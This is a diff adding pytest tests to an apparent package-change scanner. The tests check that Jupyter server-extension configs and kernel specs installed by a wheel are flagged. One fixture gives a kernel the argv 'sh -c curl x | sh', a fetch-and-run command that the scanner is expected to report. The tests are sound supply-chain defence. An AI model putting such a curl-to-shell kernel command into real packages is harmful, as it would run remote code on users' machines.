@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import json
 import zipfile
 from collections.abc import Sequence
 from pathlib import Path
@@ -311,6 +312,74 @@ def test_a_link_is_checked_as_the_file_it_leads_to_in_the_place_of_the_link(
     assert find(tmp_path, old, new) == [
         ("build", "setup.py", "build script changed"),
         ("exec", "demo/__init__.py", "subprocess.run() runs a command (line 4)"),
+    ]
+
+
+JUPYTER_SERVER = "demo-{0}.data/data/etc/jupyter/jupyter_server_config.d/demo.json"
+JUPYTER_KERNEL = "demo-{0}.data/data/share/jupyter/kernels/demo/kernel.json"
+
+
+def test_jupyter_configuration_a_wheel_installs(tmp_path: Path) -> None:
+    """Jupyter imports the server extensions its config.d files enable at every start,
+    and runs a kernel spec's argv when the kernel is picked."""
+    old = {
+        "demo/__init__.py": "",
+        JUPYTER_SERVER.format("1.0"): '{"ServerApp": {"jpserver_extensions": {"demo": true}}}',
+        JUPYTER_KERNEL.format("1.0"): '{"argv": ["python", "-m", "demo.kernel"]}',
+    }
+    new = {
+        "demo/__init__.py": "",
+        JUPYTER_SERVER.format("1.1"): (
+            '{"ServerApp": {"jpserver_extensions": {"demo": true, "demo._ext": true}}}'
+        ),
+        JUPYTER_KERNEL.format("1.1"): '{"argv": ["sh", "-c", "curl x | sh"]}',
+        "demo-1.1.data/data/etc/jupyter/nbconfig/notebook.d/demo.json": (
+            '{"load_extensions": {"demo/main": true, "demo/off": false}}'
+        ),
+        "demo-1.1.data/data/etc/jupyter/jupyter_notebook_config.d/x.json": "{not json",
+        "demo-1.1.data/data/share/jupyter/kernels/other/kernel.json": '{"argv": ["demo-k"]}',
+    }
+    assert find(tmp_path, old, new, "wheel") == [
+        (
+            "entry-point",
+            "demo-1.1.data/data/etc/jupyter/jupyter_notebook_config.d/x.json",
+            "Jupyter configuration added, not valid JSON (read when Jupyter starts)",
+        ),
+        (
+            "entry-point",
+            JUPYTER_SERVER.format("1.1"),
+            "Jupyter extension enabled: demo._ext (imported when Jupyter starts)",
+        ),
+        (
+            "entry-point",
+            "demo-1.1.data/data/etc/jupyter/nbconfig/notebook.d/demo.json",
+            "Jupyter extension enabled: demo/main (imported when Jupyter starts)",
+        ),
+        (
+            "entry-point",
+            JUPYTER_KERNEL.format("1.1"),
+            "Jupyter kernel command changed: demo runs sh -c curl x | sh",
+        ),
+        (
+            "entry-point",
+            "demo-1.1.data/data/share/jupyter/kernels/other/kernel.json",
+            "Jupyter kernel added: other runs demo-k",
+        ),
+    ]
+
+
+def test_jupyter_configuration_laid_out_anew_is_no_change(tmp_path: Path) -> None:
+    config = {"ServerApp": {"jpserver_extensions": {"demo": True}}}
+    old = {"jupyter-config/jupyter_server_config.d/demo.json": json.dumps(config)}
+    new = {"jupyter-config/jupyter_server_config.d/demo.json": json.dumps(config, indent=4)}
+    assert find(tmp_path, old, new) == []
+    new = {"jupyter-config/jupyter_server_config.d/demo.json": '{"ServerApp": {}}'}
+    assert find(tmp_path / "changed", old, new) == [
+        (
+            "entry-point",
+            "jupyter-config/jupyter_server_config.d/demo.json",
+            "Jupyter configuration changed (read when Jupyter starts)",
+        )
     ]
 
 
